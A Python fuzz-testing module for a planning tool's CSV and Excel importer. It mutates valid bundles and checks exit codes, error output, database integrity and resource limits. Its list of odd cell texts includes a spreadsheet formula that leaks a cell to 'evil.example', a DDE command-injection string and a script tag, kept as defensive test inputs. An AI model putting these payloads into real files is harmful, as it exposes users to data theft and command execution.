"""Fuzzing the importer: valid bundles mutated, and what every import of one must keep to.

A :class:`Case` is the hand-made bundle (``tests/data/handmade``) changed by a few
mutations (bytes, cells, rows, encodings, workbook structure), imported as a whole
folder, as one file, as one file with ``--kind``, as a one-sheet workbook or as a
whole workbook. A :class:`Bench` runs cases against a workspace on SQLite or
PostgreSQL, in-process through :func:`itu_plan.cli.main` or as a real process, and
:func:`check` says what went wrong:

- the exit code is 0 or 2, never 1 (or anything else); no traceback is printed;
- every line on stderr is a problem ``FILE:ROW:COLUMN: message``, ``... and N more problems``
  or ``itu-plan: ...`` (a cell's newline or escape sequence never reaches the terminal raw);
- on exit 2 the workspace is as before (content checksum and audit trail);
- on exit 0 the audit trail verifies and the workspace still answers ``version list``;
- the process stays under 500 MB and ends within a minute.

``tests/test_fuzz_import.py`` runs a few hundred cases; ``python -m
benchmarks.fuzz_import`` as many as asked for.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import os
import re
import resource
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

HANDMADE = Path(__file__).parent / "data" / "handmade"
ORIGINAL: dict[str, bytes] = {p.name: p.read_bytes() for p in sorted(HANDMADE.glob("*.csv"))}

#: The limits every import keeps to.
MAX_MB = 500
MAX_SECONDS = 60
PROBLEM_LINE = re.compile(r"[A-Za-z0-9_.\- ]+:\d+:")

Draw = Callable[[st.SearchStrategy[Any]], Any]

# -- odd cell texts -------------------------------------------------------------------------------

ODD_TEXTS: list[str] = [
    "", " ", "  \t ", "\u00a0", "\u3000", "\u200b", "\ufeff",
    "0", "-0", "-1", "-123.00", "1.005", "1e308", "-1e-308", "1E5", "0x10", "nan", "NaN", "inf", "-Infinity",
    "9" * 16, "9" * 19, "9" * 20 + ".99", "90000000000000000000.00", "1" + "0" * 40, "-" + "9" * 30,
    "999999999999999.99", "1000000000000000", "18446744073709551616", "9223372036854775808",
    "\u0661\u0662\u0663", "\u0661\u0662\u0663.\u0664\u0665", "\uff11\uff12\uff13", "\u096b", "\u00b2", "\u2155", "Ⅻ",
    "1,000.00", "1'000", "1 000", "+1", "1_000", "(100)", "100-", "1.2.3", ".", "-", "--1",
    "2006-02-30", "2006-13-01", "0001-01-01", "9999-12-31", "10000-01-01", "2006-1-1", "2006-01-01T00:00:00",
    "01/02/2006", "20060101", "1899-12-30", "-2006-01-01", "2006-01-01\x00",
    "\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\x07", "\x7f", "\x08", "line\nbreak", "tab\tcell", "cr\rcell", "\x0c",
    "=1+1", '=HYPERLINK("http://evil.example/?leak="&B2,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "'=1", '"', '""', "'", ",", '"a,b"', "\\", "%s%n%x", "{0}", "${x}", "<script>alert(1)</script>",
    "NULL", "None", "null", "true", "FALSE", "#N/A", "#DIV/0!", "\u202eRTL", "e\u0301", "Åland", "日本", "😀",
    "\U0010ffff", "\ud7ff", "A" * 255, "A" * 256, "x" * 5000, "9" * 5000, "y" * 100_000,
    "BDT", "GS", "RB", "VC", "A-1", "S-01", "D-1", "staff", "travel", "P-3", "G-5", "ASG", "2006-2007 approved",
    "2006", "2007", "2005", "3000", "-2006", "admin", "manager", "planner", "reviewer", "boss",
]  # fmt: skip

odd_texts: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(ODD_TEXTS),
    st.text(max_size=12),
    st.from_regex(r"-?[0-9]{1,24}(\.[0-9]{0,4})?", fullmatch=True),
    st.integers().map(str),
    st.dates(min_value=dt.date(1, 1, 1)).map(str),
)

# -- a mutation is a function of the draw and the bytes, with a note of what it did ---------------


@dataclass
class Mutated:
    """What a case is made of: files by name (bytes), and the steps that made them."""

    files: dict[str, bytes]
    steps: list[str] = field(default_factory=list)


def _rows(data: bytes) -> list[list[str]] | None:
    try:
        return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))
    except (UnicodeDecodeError, csv.Error):
        return None


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8", "surrogatepass")


def mutate_bytes(draw: Draw, data: bytes) -> tuple[bytes, str]:
    """Flip a bit, insert or delete bytes, or cut the file short."""
    how = draw(st.sampled_from(["flip", "insert", "delete", "truncate"]))
    at = draw(st.integers(0, len(data)))
    if how == "flip" and data:
        at = min(at, len(data) - 1)
        bit = draw(st.integers(0, 7))
        return data[:at] + bytes([data[at] ^ (1 << bit)]) + data[at + 1 :], f"flip bit {bit} of byte {at}"
    if how == "insert":
        extra = draw(
            st.one_of(
                st.binary(min_size=1, max_size=8),
                st.sampled_from([b"\x00", b'"', b"\r", b"\n", b",", b"\xef\xbb\xbf", b"\xff\xfe", b"\xc3", b"\n\n"]),
            )
        )
        return data[:at] + extra + data[at:], f"insert {extra!r} at byte {at}"
    if how == "delete":
        count = draw(st.integers(1, 16))
        return data[:at] + data[at + count :], f"delete {count} bytes at byte {at}"
    return data[:at], f"truncate at byte {at}"


def _grow(rows: list[list[str]]) -> str:
    """A file left without data rows gets an empty one (mutations need a row to work on)."""
    if not rows:
        rows.append(["code"])
    rows.append([""] * len(rows[0]))
    return "an empty row"


def mutate_cell(draw: Draw, rows: list[list[str]]) -> str:
    """Replace one cell (the header's too) with odd text."""
    if len(rows) < 2:
        return _grow(rows)
    r = draw(st.integers(0, len(rows) - 1)) if draw(st.integers(0, 9)) == 0 else draw(st.integers(1, len(rows) - 1))
    if not rows[r]:
        rows[r].append("")
    c = draw(st.integers(0, len(rows[r]) - 1))
    value = draw(odd_texts)
    rows[r][c] = value
    shown = value if len(value) <= 40 else f"{value[:20]!r}... ({len(value)} characters)"
    return f"cell {r + 1}:{c + 1} = {shown!r}"


def mutate_rows(draw: Draw, rows: list[list[str]]) -> str:
    """Duplicate, drop, shuffle rows; add or drop a column; swap two header names."""
    if len(rows) < 2:
        return _grow(rows)
    how = draw(st.sampled_from(["duplicate", "drop", "shuffle", "extra cell", "extra column", "drop column", "swap"]))
    body = range(1, len(rows))
    if how == "duplicate":
        r = draw(st.sampled_from(body))
        rows.insert(draw(st.integers(1, len(rows))), list(rows[r]))
        return f"duplicate row {r + 1}"
    if how == "drop":
        r = draw(st.integers(0, len(rows) - 1))
        del rows[r]
        return f"drop row {r + 1}"
    if how == "shuffle":
        order = draw(st.permutations(list(body)))
        rows[1:] = [rows[i] for i in order]
        return "shuffle the rows"
    if how == "extra cell":
        r = draw(st.integers(0, len(rows) - 1))
        rows[r].append(draw(odd_texts))
        return f"an extra cell on row {r + 1}"
    if how == "extra column":
        name = draw(st.sampled_from(["note", "amount", "code", "", " ", "Amount", "reference "]))
        for n, row in enumerate(rows):
            row.append(name if n == 0 else "x")
        return f"an extra column {name!r}"
    width = len(rows[0])
    if how == "drop column" and width:
        c = draw(st.integers(0, width - 1))
        for row in rows:
            if c < len(row):
                del row[c]
        return f"drop column {c + 1}"
    if width >= 2:
        a, b = draw(st.lists(st.integers(0, width - 1), min_size=2, max_size=2, unique=True))
        rows[0][a], rows[0][b] = rows[0][b], rows[0][a]
        return f"swap header cells {a + 1} and {b + 1}"
    return "nothing"


ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252", "utf-8-sig", "double bom", "crlf", "cr"]


def mutate_encoding(draw: Draw, data: bytes) -> tuple[bytes, str]:
    """The same text in another encoding, with a byte-order mark, or other line ends."""
    how = draw(st.sampled_from(ENCODINGS))
    text = data.decode("utf-8", "replace")
    if how in ("latin-1", "cp1252") and draw(st.booleans()):
        text = text.replace("Development", "Développement").replace("Bureau", "Bürö")  # make the encoding matter
    if how == "utf-8-sig":
        return b"\xef\xbb\xbf" + data, "with a UTF-8 byte-order mark"
    if how == "double bom":
        return b"\xef\xbb\xbf\xef\xbb\xbf" + data, "with two UTF-8 byte-order marks"
    if how == "crlf":
        return data.replace(b"\n", b"\r\n"), "CRLF line ends"
    if how == "cr":
        return data.replace(b"\n", b"\r"), "CR line ends"
    return text.encode(how, "replace"), f"encoded as {how}"


def mutate_csv(draw: Draw, data: bytes) -> tuple[bytes, list[str]]:
    """One to four mutations of a CSV file: cells and rows first, then its encoding, then bytes."""
    steps: list[str] = []
    structural = draw(st.integers(0, 3))
    rows = _rows(data)
    if structural and rows is not None and len(rows) >= 2:
        for _ in range(structural):
            if len(rows) < 2:
                break
            steps.append(mutate_cell(draw, rows) if draw(st.booleans()) else mutate_rows(draw, rows))
        data = _csv(rows)
    if draw(st.integers(0, 5)) == 0:
        data, step = mutate_encoding(draw, data)
        steps.append(step)
    if not steps or draw(st.integers(0, 3)) == 0:
        for _ in range(draw(st.integers(1, 2))):
            data, step = mutate_bytes(draw, data)
            steps.append(step)
    return data, steps


# -- workbooks ------------------------------------------------------------------------------------


def odd_value(draw: Draw, text: str) -> object:
    """A cell of a workbook: the text as it is, or a value of another type."""
    how = draw(st.sampled_from(["text"] * 6 + ["int", "float", "bool", "datetime", "formula", "odd", "none"]))
    if how == "int":
        return draw(st.integers(-(2**70), 2**70))
    if how == "float":
        return draw(st.floats(allow_nan=False, allow_infinity=False))
    if how == "bool":
        return draw(st.booleans())
    if how == "datetime":
        return draw(st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(9999, 1, 1)))
    if how == "formula":
        return draw(st.sampled_from(["=1+1", "=NOW()", "=A1", "=1/0", '="x"&"y"', "=SUM(A1:XFD1048576)"]))
    if how == "odd":
        return draw(odd_texts)
    if how == "none":
        return None
    return text


def workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    """An .xlsx file of these sheets (name -> rows); values openpyxl refuses become their repr."""
    from openpyxl import Workbook
    from openpyxl.utils.exceptions import IllegalCharacterError

    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            try:
                sheet.append(row)
            except (IllegalCharacterError, ValueError, TypeError):
                sheet.append([repr(v) if isinstance(v, str) else v for v in row])
    book.properties.created = book.properties.modified = dt.datetime(2006, 1, 1)
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as saved:
        parts = {info.filename: saved.read(info) for info in saved.infolist()}
    core = parts.get("docProps/core.xml", b"")  # openpyxl stamps the time of saving
    parts["docProps/core.xml"] = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2006-01-01T00:00:00Z", core)
    return _zip(parts)


def _zip(parts: dict[str, bytes]) -> bytes:
    """A zip of these parts, the same bytes every time (no clock in it: the strategies must be
    deterministic for hypothesis to replay them)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(zipfile.ZipInfo(name, date_time=(2006, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


CELL_TYPES = ['t="s"', 't="n"', 't="b"', 't="e"', 't="str"', 't="inlineStr"', 't="d"', 't="zz"', ""]


def mutate_zip(draw: Draw, data: bytes) -> tuple[bytes, str]:
    """Break a workbook's structure: drop a part, damage a part, change cell types, lie about
    the sheet's size, or damage the zip itself."""
    how = draw(st.sampled_from(["drop", "damage part", "cell type", "dimension", "shared string", "zip bytes"]))
    if how == "zip bytes":
        data, step = mutate_bytes(draw, data)
        return data, f"zip: {step}"
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    names = sorted(parts)
    sheets = [n for n in names if n.startswith("xl/worksheets/")]
    step = ""
    if how == "drop":
        name = draw(st.sampled_from(names))
        del parts[name]
        step = f"without {name}"
    elif how == "damage part":
        name = draw(st.sampled_from(names))
        parts[name], what = mutate_bytes(draw, parts[name])
        step = f"{name}: {what}"
    elif how == "cell type" and sheets:
        name = draw(st.sampled_from(sheets))
        xml = parts[name].decode("utf-8")
        cells = list(re.finditer(r"<c r=\"[A-Z]+[0-9]+\"( t=\"[a-zA-Z]+\")?", xml))
        if cells:
            cell = draw(st.sampled_from(cells))
            new = draw(st.sampled_from(CELL_TYPES))
            value = draw(st.sampled_from(["", "<v>99999</v>", "<v>abc</v>", "<v>1e400</v>", "<v>-1</v>", "<v>2</v>"]))
            replaced = cell.group(0).split(" t=")[0] + (" " + new if new else "")
            end = xml.index(">", cell.end()) + 1
            xml = xml[: cell.start()] + replaced + xml[cell.end() : end] + value + xml[end:]
            parts[name] = xml.encode("utf-8")
            step = f"{name}: a cell {new or 'without a type'} {value}"
    elif how == "dimension" and sheets:
        name = draw(st.sampled_from(sheets))
        ref = draw(st.sampled_from(["A1:XFD1048576", "A1:ZZ99999", "A1", "B2:A1", "A0:A0", "1:2"]))
        xml = re.sub(r"<dimension ref=\"[^\"]*\"", f'<dimension ref="{ref}"', parts[name].decode("utf-8"))
        if "<dimension" not in xml:
            xml = xml.replace("<sheetData", f'<dimension ref="{ref}"/><sheetData', 1)
        parts[name] = xml.encode("utf-8")
        step = f"{name}: dimension {ref}"
    elif how == "shared string" and "xl/sharedStrings.xml" in parts:
        xml = parts["xl/sharedStrings.xml"].decode("utf-8")
        text = draw(st.sampled_from(["&#0;", "&#x1b;", "&lt;x&gt;", "]]>", "&amp;", "\U0001f600"]))
        parts["xl/sharedStrings.xml"] = xml.replace("<t>", f"<t>{text}", 1).encode("utf-8")
        step = f"a shared string with {text}"
    return _zip(parts), step or "rezipped"


# -- cases ----------------------------------------------------------------------------------------

TARGETS = ("bundle", "file", "kind", "sheet", "workbook")


@dataclass
class Case:
    """A mutated input: the files to write, the PATH to import, --kind, and the base workspace
    (``empty``: initialised and empty, imported by ``tester``; ``handmade``: holding the
    hand-made bundle, imported by its admin ``boss``)."""

    target: str
    base: str
    files: dict[str, bytes]
    path: str
    kind: str | None
    steps: list[str]

    @property
    def user(self) -> str:
        return "boss" if self.base == "handmade" else "tester"

    def write(self, folder: Path) -> Path:
        """Write the case into ``folder`` (emptied first); the PATH to import."""
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        for name, data in self.files.items():
            (folder / name).write_bytes(data)
        return folder / self.path if self.path != "." else folder

    def argv(self, url: str, path: Path) -> list[str]:
        kind = ["--kind", self.kind] if self.kind else []
        return ["--db", url, "--user", self.user, "import", str(path), "--quiet", *kind]

    def size(self) -> int:
        return sum(len(data) for data in self.files.values())

    def describe(self) -> str:
        kind = f" --kind {self.kind}" if self.kind else ""
        return f"{self.target} {self.path}{kind} into the {self.base} workspace: " + "; ".join(self.steps)


@st.composite
def cases(draw: Draw, targets: tuple[str, ...] = TARGETS) -> Case:
    """A valid bundle, mutated."""
    target = draw(st.sampled_from(targets))
    name = draw(st.sampled_from(sorted(ORIGINAL)))
    kind = name.removesuffix(".csv")
    if target == "bundle":
        files = dict(ORIGINAL)
        steps: list[str] = []
        for chosen in draw(st.lists(st.sampled_from(sorted(ORIGINAL)), min_size=1, max_size=2, unique=True)):
            files[chosen], done = mutate_csv(draw, files[chosen])
            steps += [f"{chosen}: {s}" for s in done]
        if draw(st.integers(0, 9)) == 0:
            files["notes.txt"] = b"an unknown file"
            steps.append("an unknown file")
        return Case(target, "empty", files, ".", None, steps)
    if target in ("file", "kind"):
        data, steps = mutate_csv(draw, ORIGINAL[name])
        if target == "file":
            return Case(target, "handmade", {name: data}, name, None, [f"{name}: {s}" for s in steps])
        return Case(target, "handmade", {"input.csv": data}, "input.csv", kind, steps)
    if target == "sheet":
        rows = _rows(ORIGINAL[name]) or []
        steps = []
        for _ in range(draw(st.integers(0, 2))):
            steps.append(mutate_cell(draw, rows) if draw(st.booleans()) else mutate_rows(draw, rows))
        sheet = [[odd_value(draw, cell) if r and draw(st.integers(0, 7)) == 0 else cell for cell in row]
                 for r, row in enumerate(rows)]  # fmt: skip
        data = workbook({draw(st.sampled_from([kind, "Sheet1", name])): sheet})
        if draw(st.booleans()):
            data, step = mutate_zip(draw, data)
            steps.append(step)
        return Case(target, "handmade", {"input.xlsx": data}, "input.xlsx", kind, steps or ["typed cells"])
    sheets: dict[str, list[list[object]]] = {
        n.removesuffix(".csv"): [list[object](row) for row in _rows(d) or []] for n, d in ORIGINAL.items()
    }
    steps = []
    for _ in range(draw(st.integers(0, 2))):
        chosen = draw(st.sampled_from(sorted(sheets)))
        rows = [[str(c) for c in row] for row in sheets[chosen]]
        steps.append(f"{chosen}: " + (mutate_cell(draw, rows) if draw(st.booleans()) else mutate_rows(draw, rows)))
        sheets[chosen] = [[odd_value(draw, c) if r and draw(st.integers(0, 15)) == 0 else c for c in row]
                          for r, row in enumerate(rows)]  # fmt: skip
    data = workbook(sheets)
    if not steps or draw(st.booleans()):
        data, step = mutate_zip(draw, data)
        steps.append(step)
    base = draw(st.sampled_from(["empty", "handmade"]))
    return Case(target, base, {"bundle.xlsx": data}, "bundle.xlsx", None, steps)


# -- running cases --------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What one import did, and what :func:`check` found wrong with it."""

    case: Case
    exit_code: int | None
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float | None = None
    failures: list[str] = field(default_factory=list)

    def signature(self) -> str:
        """The kind of failure, for grouping: the failures without the case's figures."""
        first = next((line for line in self.stderr.splitlines() if "itu-plan:" in line), "")
        first = re.sub(r"\d+", "N", re.sub(r"'[^']*'|\"[^\"]*\"", "'...'", first))[:120]
        kinds = ", ".join(sorted({re.sub(r"\d+", "N", f.split(":")[0]) for f in self.failures}))
        return f"{kinds} | {first}"


def rss_mb() -> float:
    """The peak resident memory of this process so far, in MB."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


class Bench:
    """Workspaces to import cases into, on one backend, restored after every change.

    ``empty`` is initialised and empty; ``handmade`` holds the hand-made bundle. A
    case that changed its workspace (exit 0, or a failure) has it put back from a
    template before the next case: a file copy on SQLite, ``CREATE DATABASE ...
    TEMPLATE`` on PostgreSQL.
    """

    def __init__(self, root: Path, postgres: Any = None) -> None:
        from itu_plan import Workspace
        from itu_plan.bundle import import_bundle

        self.root, self.postgres = root, postgres
        root.mkdir(parents=True, exist_ok=True)
        self.templates: dict[str, str] = {}
        self.urls: dict[str, str] = {}
        self.before: dict[str, tuple[str, int]] = {}
        self.dirty: set[str] = set()
        self.start_mb = rss_mb()
        for base in ("empty", "handmade"):
            url = self._new(f"template_{base}")
            with Workspace.open(url, user="tester", create=True) as ws:
                ws.init()
                if base == "handmade":
                    import_bundle(ws, HANDMADE)
            self.templates[base] = url
            self.urls[base] = self._copy(base)
            self.before[base] = self.state(self.urls[base])

    # the backends
    def _new(self, name: str) -> str:
        if self.postgres is None:
            return f"sqlite:///{self.root / (name + '.db')}"
        self._sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)', f'CREATE DATABASE "{name}"')
        return str(self.postgres.url(name))

    def _copy(self, base: str) -> str:
        name = f"work_{base}"
        if self.postgres is None:
            shutil.copyfile(self.templates[base].removeprefix("sqlite:///"), self.root / f"{name}.db")
            return f"sqlite:///{self.root / (name + '.db')}"
        template = f"template_{base}"
        self._sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)', f'CREATE DATABASE "{name}" TEMPLATE "{template}"')
        return str(self.postgres.url(name))

    def _sql(self, *statements: str) -> None:
        import psycopg

        with psycopg.connect(f"host={self.postgres.socket} user=postgres dbname=postgres", autocommit=True) as c:
            for statement in statements:
                c.execute(statement.encode())

    @staticmethod
    def state(url: str) -> tuple[str, int]:
        """The workspace's content checksum and the number of its audit events."""
        from sqlalchemy import func, select

        from itu_plan import Workspace
        from itu_plan.model import AuditEvent

        with Workspace.open(url, user="tester") as ws, ws.reading() as session:
            return ws.checksum(), int(session.scalar(select(func.count()).select_from(AuditEvent)) or 0)

    def url(self, case: Case) -> str:
        if case.base in self.dirty:
            self.urls[case.base] = self._copy(case.base)
            self.dirty.discard(case.base)
        return self.urls[case.base]

    def run(self, case: Case, *, subprocess_run: bool = False) -> Outcome:
        """Import ``case`` and check what happened (see :func:`check`)."""
        url = self.url(case)
        path = case.write(self.root / "case")
        outcome = run_process(case, url, path) if subprocess_run else run_in_process(case, url, path)
        if not subprocess_run and rss_mb() - self.start_mb > MAX_MB:
            outcome.failures.append(f"memory: this process grew to {rss_mb():.0f} MB")
        check(outcome, url, self.before[case.base])
        if outcome.exit_code != 2 or outcome.failures:
            self.dirty.add(case.base)
        return outcome

    def close(self) -> None:
        if self.postgres is not None:
            names = [f"work_{b}" for b in self.urls] + [f"template_{b}" for b in self.templates]
            self._sql(*(f'DROP DATABASE IF EXISTS "{n}" WITH (FORCE)' for n in names))
        shutil.rmtree(self.root, ignore_errors=True)


def run_in_process(case: Case, url: str, path: Path) -> Outcome:
    """``itu-plan import`` through :func:`itu_plan.cli.main` in this process."""
    from itu_plan.cli import main

    out, err = io.StringIO(), io.StringIO()
    started = time.perf_counter()
    code: int | None
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(case.argv(url, path))
    except BaseException as exc:  # anything main lets out is the finding
        import traceback

        code = None
        err.write("".join(traceback.format_exception(exc)))
    outcome = Outcome(case, code, out.getvalue(), err.getvalue(), time.perf_counter() - started)
    if code is None:
        outcome.failures.append("escaped: an exception left itu_plan.cli.main")
    return outcome


def run_process(case: Case, url: str, path: Path) -> Outcome:
    """``itu-plan import`` as a process of its own, its peak memory measured by GNU time."""
    measure = path.parent.parent / "peak.txt"
    command = ["/usr/bin/time", "-o", str(measure), "-f", "%M", sys.executable, "-m", "itu_plan.cli"]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    started = time.perf_counter()
    try:
        done = subprocess.run(
            [*command, *case.argv(url, path)], capture_output=True, env=env, timeout=MAX_SECONDS, check=False
        )
    except subprocess.TimeoutExpired as exc:
        outcome = Outcome(case, None, _text(exc.stdout), _text(exc.stderr), time.perf_counter() - started)
        outcome.failures.append(f"hung: still running after {MAX_SECONDS} s (killed)")
        return outcome
    seconds = time.perf_counter() - started
    peak = None
    with contextlib.suppress(OSError, ValueError, IndexError):
        peak = int(measure.read_text().split()[-1]) / 1024
    outcome = Outcome(case, done.returncode, _text(done.stdout), _text(done.stderr), seconds, peak)
    if peak is not None and peak > MAX_MB:
        outcome.failures.append(f"memory: peak {peak:.0f} MB")
    return outcome


def _text(data: bytes | str | None) -> str:
    if isinstance(data, str):
        return data
    return (data or b"").decode("utf-8", "backslashreplace")


def check(outcome: Outcome, url: str, before: tuple[str, int]) -> None:
    """Add to ``outcome.failures`` whatever the import did wrong (see the module's docstring)."""
    from itu_plan import Workspace
    from itu_plan.cli import main

    code = outcome.exit_code
    if code is not None and code not in (0, 2):
        outcome.failures.append(f"exit {code}")
    if "Traceback (most recent call last)" in outcome.stdout + outcome.stderr:
        outcome.failures.append("traceback printed")
    if outcome.seconds > MAX_SECONDS:
        outcome.failures.append(f"slow: {outcome.seconds:.0f} s")
    lines = [line for line in re.split(r"\r\n|\n|\r", outcome.stderr) if line]  # as a terminal breaks lines
    stray = [line for line in lines if not (line.startswith(("itu-plan: ", "... and ")) or PROBLEM_LINE.match(line))]
    if stray and code in (0, 2):
        outcome.failures.append(f"stray stderr line: {stray[0][:80]!r}")
    if re.search(r"[\x00-\x08\x0b-\x1f\x7f]", outcome.stderr + outcome.stdout):
        outcome.failures.append("a raw control character in the output")
    if code == 2 and not lines:
        outcome.failures.append("exit 2 without a message")
    try:
        after = Bench.state(url)
    except Exception as exc:
        outcome.failures.append(f"unreadable afterwards: {type(exc).__name__}: {str(exc)[:100]}")
        return
    if code == 2 and after != before:
        outcome.failures.append(f"changed on exit 2: checksum/audit {before} -> {after}")
    if code == 0:
        with Workspace.open(url, user="tester") as ws:
            verified = ws.verify_audit()
        if not verified.whole:
            outcome.failures.append(f"audit verify: {verified.sentence()}")
        user = outcome.case.user
        sink = io.StringIO()
        with contextlib.redirect_stdout(sink), contextlib.redirect_stderr(sink):
            listed = main(["--db", url, "--user", user, "version", "list"])
        if listed not in (0, 3):  # 3: the bundle's users.csv left tester out
            outcome.failures.append(f"version list afterwards: exit {listed}: {sink.getvalue().strip()[:160]}")


@contextlib.contextmanager
def bench(root: Path, postgres: Any = None) -> Iterator[Bench]:
    made = Bench(root, postgres)
    try:
        yield made
    finally:
        made.close()


def save(outcome: Outcome, folder: Path) -> Path:
    """Keep a failing case in ``folder``: its files, the command and what it printed."""
    folder.mkdir(parents=True, exist_ok=True)
    path = outcome.case.write(folder / "input")
    (folder / "README.txt").write_text(
        f"{outcome.case.describe()}\n\nitu-plan {' '.join(outcome.case.argv('URL', path))}\n"
        f"exit {outcome.exit_code}\nfailures: {'; '.join(outcome.failures)}\n\n"
        f"stdout:\n{outcome.stdout[:4000]}\nstderr:\n{outcome.stderr[:8000]}\n"
    )
    return folder
